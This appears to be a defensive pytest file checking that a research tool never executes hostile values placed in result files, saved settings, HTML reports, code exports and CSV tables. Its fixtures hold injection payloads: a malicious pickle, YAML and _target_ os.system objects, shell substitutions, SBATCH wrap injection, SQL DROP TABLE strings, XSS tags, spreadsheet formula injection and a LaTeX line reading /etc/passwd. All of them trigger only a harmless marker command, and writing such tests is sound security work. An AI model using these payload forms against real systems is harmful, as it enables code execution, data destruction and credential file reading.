"""Code in data: pickles, tags, shell lines, templates, markup, formulas. None of it is ever run."""

from __future__ import annotations

import csv
import json
import pickle
import shutil
import sqlite3
import subprocess
from collections.abc import Callable
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from fsm_hpc.data.kind_name import KindName
from fsm_hpc.data.kinds import ColumnSchema
from fsm_hpc.formulas.formula import Atom, Proposition, Relation
from fsm_hpc.models import card
from fsm_hpc.models.exporters import FORMATS, export
from fsm_hpc.models.model import Model
from fsm_hpc.study.files import StudyPaths
from tests.faults import ledger
from tests.faults.ledger import EscapedError, RanError, WrongError
from tests.support.command_line import said
from tests.support.made_studies import fold_result, put
from tests.support.rules import make_model

KIND = "code in data"
TOUCH = "touched"  # what every piece of code below would make
SHELL = f"touch {TOUCH}"
PYTHON = f"__import__('pathlib').Path('{TOUCH}').touch()"
NODE = f"require('fs').writeFileSync('{TOUCH}','')"
NAMES = (
    f"{{{{ {PYTHON} }}}}",
    f"{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}{SHELL}",
    f"${{oc.env:HOME}}$({SHELL})`{SHELL}`",
    f"'; {SHELL}; '",
    f"a\n#SBATCH --wrap='{SHELL}'",
    f'"+{PYTHON}+"',
    f"'+{PYTHON}+'",
    f"\\'+{PYTHON}+\\'",
    f'"]+{NODE}+["',
    f"`${{{NODE}}}`",
    f"x\u2028{NODE}//",
    f"*/{NODE}/*",
    f"x\n{NODE}\n{PYTHON}\n",
    '"; DROP TABLE t; --',
    "'); DROP TABLE t; --",
    "]; DROP TABLE t; --",
    "<script>document.title='touched'</script>",
    "</script><script>document.title='touched'</script>",
    "<img src=x onerror=\"document.title='touched'\">",
    "<!--<script>",
    '" autofocus onfocus="document.title=1" x="',
    "javascript:document.title='touched'",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://x.invalid/?"&A1,"x")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\\input{/etc/passwd}\\write18{" + SHELL + "}",
    "[x](javascript:alert(1))",
)


class Reducing:
    """What a pickle of it runs when it is loaded."""

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str, ...]]:
        return subprocess.getoutput, (SHELL,)


HOSTILE_FILES: dict[str, bytes] = {
    "pickle": pickle.dumps(Reducing()),
    "yaml": f"!!python/object/apply:os.system ['{SHELL}']\n".encode(),
    "target": json.dumps({"_target_": "os.system", "command": SHELL, "format": 1}).encode(),
    "python": PYTHON.encode(),
    "shell": f"#!/bin/sh\n{SHELL}\n".encode(),
}
FILES = ("result.json", "scan.json", "submission.json", "attempt.json", "trials.json", "model.json")
COMMANDS = ("status", "collect", "resume", "cancel -y", "logs", "report", "plan")


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


def refuse_run(folder: Path, what: str) -> None:
    if list(folder.rglob(TOUCH)):
        raise RanError(f"{what} was run")


def do(*words: str) -> bytes:
    code, printed = said(*words)
    if code not in (0, 1, 2):
        raise EscapedError(f"{words} ended with {code}")
    return printed


@pytest.mark.parametrize("kind", HOSTILE_FILES if ledger.IS_LONG else ("pickle", "target"))
def test_no_file_of_a_results_folder_is_run(here: Path, kind: str) -> None:
    study = StudyPaths(here / "results" / "default")
    for name in FILES if ledger.IS_LONG else FILES[:3]:
        with ledger.case(KIND, f"{kind} as {name}") as case:
            put(study, fold_result("bank", "pivot", 0), fold_result("bank", "pivot", 1))
            folder = study.root / "bank" / "pivot" / "fold-0"
            (folder / name).write_bytes(HOSTILE_FILES[kind])
            for command in COMMANDS if ledger.IS_LONG else COMMANDS[:4]:
                case.tried += 1
                place = ["dataset=bank", "method=pivot", "cluster=local"]
                words = place if command == "plan" else []
                do(*command.split(), *words)
                refuse_run(here, f"{kind} as {name}, by {command}")
            shutil.rmtree(study.root)


# `_target_`, shell lines and modules in the settings that a fold was submitted with
SETTINGS: dict[str, Any] = {
    "cluster.setup": [SHELL],
    "cluster.python": f"sh -c '{SHELL}' #",
    "cluster.options": {"wrap": SHELL},
    "dataset.package": TOUCH,
    "notify": SHELL,
    "_target_": "os.system",
    "dataset._target_": "os.system",
    "solver.name": {"_target_": "subprocess.getoutput", "cmd": SHELL},
    "study": f"$({SHELL})",
    "method.name": "!!python/name:os.system",
}


IN_SHORT = ("cluster.setup", "solver.name")


def a_fold(here: Path, *words: str) -> Path:
    """The folder of a fold that has ended."""
    fold = ["dataset=hepatitis", "method=median", "fold=0", "scan.max_length=1"]
    assert said(*fold, "solver=native", "solver.threads=1", *words)[0] == 0
    return here / "results" / "default" / "hepatitis" / "median" / "fold-0"


def with_setting(config: dict[str, Any], key: str) -> None:
    """Put the hostile value of a key into settings."""
    *sections, name = key.split(".")
    for section in sections:
        config = config[section]
    config[name] = SETTINGS[key]


@pytest.mark.parametrize("key", SETTINGS if ledger.IS_LONG else IN_SHORT)
def test_no_setting_on_disk_is_run(here: Path, key: str) -> None:
    with ledger.case(KIND, f"setting {key}") as case:
        folder = a_fold(here)
        saved = json.loads((folder / "submission.json").read_text())
        with_setting(saved["config"], key)
        (folder / "submission.json").write_text(json.dumps(saved))
        (folder / "result.json").unlink()
        case.tried += 2
        do("resume", "--wait", "cluster=local")
        do("cancel", "-y")
        refuse_run(here, key)


@pytest.mark.parametrize("key", SETTINGS if ledger.IS_LONG else IN_SHORT)
def test_no_setting_of_an_array_is_run(here: Path, key: str) -> None:
    with ledger.case(KIND, f"setting {key} of an array") as case:
        folder = a_fold(here, "-m", "--wait", "cluster=local")
        (array,) = (here / "results" / "default" / "submissions").glob("*/array.json")
        saved = json.loads(array.read_text())
        with_setting(saved["first"]["config"], key)
        array.write_text(json.dumps(saved))
        (folder / "result.json").unlink()
        case.tried += 2
        do("resume", "--wait", "cluster=local")
        do("cancel", "-y")
        refuse_run(here, f"{key} of an array")


# ---------------------------------------------------------------------------------- names on pages


class Tags(HTMLParser):
    """The elements of a page, and whether one of them would run something."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.runs: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(tag)
        for name, value in attrs:
            is_link = name in ("href", "src") and (value or "").strip().startswith("javascript:")
            if name.startswith("on") or is_link:
                self.runs.append(f"{tag} {name}={value}")


def refuse_tags(page: str, plain: str, name: str) -> None:
    """A page with this name has the elements that one with a plain name has."""
    hostile, usual = Tags(page), Tags(plain)
    if hostile.runs != usual.runs or hostile.found.count("script") != usual.found.count("script"):
        raise RanError(f"{name!r} on a page: {hostile.runs}, {hostile.found.count('script')}")


CHOSEN = NAMES if ledger.IS_LONG else NAMES[::8]


@pytest.mark.parametrize("name", CHOSEN, ids=ascii)
def test_a_name_on_a_page_is_text(here: Path, name: str) -> None:
    with ledger.case(KIND, f"page {name!a}") as case:
        pages: list[str] = []
        for one in ("plain", name):
            study = StudyPaths(here / "results" / f"s{len(pages)}")
            put(study, fold_result("bank", "pivot", 0, target=one, positive=one))
            do("report", f"study={study.root.name}")
            pages.append(study.report.read_text())
        model = [rule_of(one) for one in ("plain", name)]
        case.tried += 2
        refuse_tags(pages[1], pages[0], name)
        refuse_tags(card.page(model[1]), card.page(model[0]), name)
        refuse_run(here, name)


def rule_of(name: str) -> Model:
    """A rule with one column, which is called so, as are its target and one of its classes."""
    source = ColumnSchema(name, KindName.NUMERIC)
    model = make_model(
        Atom(Proposition(name, Relation.AT_LEAST, 1.0)), [source], classes=("no", name)
    )
    return replace(model, target=name)


# ---------------------------------------------------------------------------------- names in code


@pytest.mark.parametrize("name", CHOSEN, ids=ascii)
def test_a_column_in_an_export_is_text(here: Path, name: str) -> None:
    with ledger.case(KIND, f"export {name!a}") as case:
        model = rule_of(name)
        texts = {to: export(model, to) for to in FORMATS}
        case.tried += len(texts)
        names: dict[str, Any] = {}
        exec(texts["python"], names)
        if names["predict"]({name: 2}) == names["predict"]({name: 0}):
            raise WrongError(f"python takes {name!r} for another column")
        _ask_sqlite(texts["sql"], name)
        if shutil.which("node"):
            _ask_node(texts["javascript"], name, here)
        refuse_run(here, f"export of {name!r}")


def _ask_sqlite(code: str, name: str) -> None:
    column = '"' + name.replace('"', '""') + '"'
    with sqlite3.connect(":memory:") as database:
        database.execute(f"CREATE TABLE t ({column})")
        database.executemany("INSERT INTO t VALUES (?)", [(2,), (0,)])
        found = database.execute(f"SELECT {code} FROM t").fetchall()
        left = database.execute("SELECT count(*) FROM t").fetchone()
    if left != (2,) or found[0] == found[1]:
        raise RanError(f"SQL with {name!r}: {found}, {left}")


def _ask_node(code: str, name: str, here: Path) -> None:
    asked = f"console.log(predict({{[{json.dumps(name)}]: 2}}))"
    done = subprocess.run(
        ["node", "-e", f"{code}\n{asked}"], cwd=here, capture_output=True, text=True, timeout=60
    )
    if done.returncode:
        raise WrongError(f"node with {name!r}: {done.stderr[-500:]}")


# ------------------------------------------------------------------------------------ spreadsheets


@pytest.mark.parametrize("name", CHOSEN, ids=ascii)
def test_no_cell_of_a_table_is_a_formula(here: Path, name: str) -> None:
    with ledger.case(KIND, f"cell {name!a}") as case:
        study = StudyPaths(here / "results" / "default")
        label = name.replace("/", "|")
        put(study, fold_result(label, "pivot", 0, formula=str(rule_of(name).formula)))
        do("collect")
        case.tried += 1
        with study.folds_csv.open(newline="", encoding="utf-8", errors="replace") as stream:
            cells = [cell for line in csv.reader(stream) for cell in line]
        odd = [cell for cell in cells if _is_formula(cell)]
        if odd:
            raise RanError(f"a spreadsheet would run {odd}")


def _is_formula(cell: str) -> bool:
    """What Excel and LibreOffice would compute; a number is none."""
    try:
        float(cell)
    except ValueError:
        return cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    return False
